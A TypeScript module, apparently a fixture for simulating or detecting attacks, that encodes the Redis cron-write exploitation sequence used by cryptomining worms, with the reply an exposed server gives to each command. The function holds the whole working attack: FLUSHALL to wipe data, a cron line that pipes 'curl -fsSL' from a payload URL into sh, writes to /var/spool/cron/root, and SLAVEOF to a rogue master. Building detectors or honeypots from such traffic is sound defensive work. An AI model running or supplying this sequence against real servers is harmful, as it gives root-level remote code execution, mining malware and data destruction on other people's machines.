/**
 * Redis RESP commands of the cron-write exploitation used by Monero-mining worms (and the
 * SLAVEOF rogue-master variant): CONFIG SET dir/dbfilename, SET a cron line, SAVE.
 */

/** Encodes one command as a RESP array of bulk strings. */
export function respCommand(args: string[]): Buffer {
  let s = `*${args.length}\r\n`;
  for (const a of args) s += `$${Buffer.byteLength(a, 'utf8')}\r\n${a}\r\n`;
  return Buffer.from(s, 'utf8');
}

export const RESP_OK = Buffer.from('+OK\r\n');

export function respBulk(s: string): Buffer {
  return Buffer.from(`$${Buffer.byteLength(s, 'utf8')}\r\n${s}\r\n`, 'utf8');
}

/** The exploitation sequence with the reply each command gets from an unprotected server. */
export function redisCronExploit(payloadUrl: string, rogueMaster: string, roguePort: number): { cmd: string[]; reply: Buffer }[] {
  const cron = `\n\n*/1 * * * * curl -fsSL ${payloadUrl} | sh\n\n`;
  return [
    { cmd: ['INFO', 'server'], reply: respBulk('# Server\r\nredis_version:5.0.7\r\nredis_mode:standalone\r\nos:Linux 5.4.0-150-generic x86_64\r\narch_bits:64\r\ntcp_port:6379\r\n') },
    { cmd: ['CONFIG', 'SET', 'stop-writes-on-bgsave-error', 'no'], reply: RESP_OK },
    { cmd: ['FLUSHALL'], reply: RESP_OK },
    { cmd: ['SET', 'x', cron], reply: RESP_OK },
    { cmd: ['CONFIG', 'SET', 'dir', '/var/spool/cron'], reply: RESP_OK },
    { cmd: ['CONFIG', 'SET', 'dbfilename', 'root'], reply: RESP_OK },
    { cmd: ['SAVE'], reply: RESP_OK },
    { cmd: ['SLAVEOF', rogueMaster, String(roguePort)], reply: RESP_OK },
  ];
}
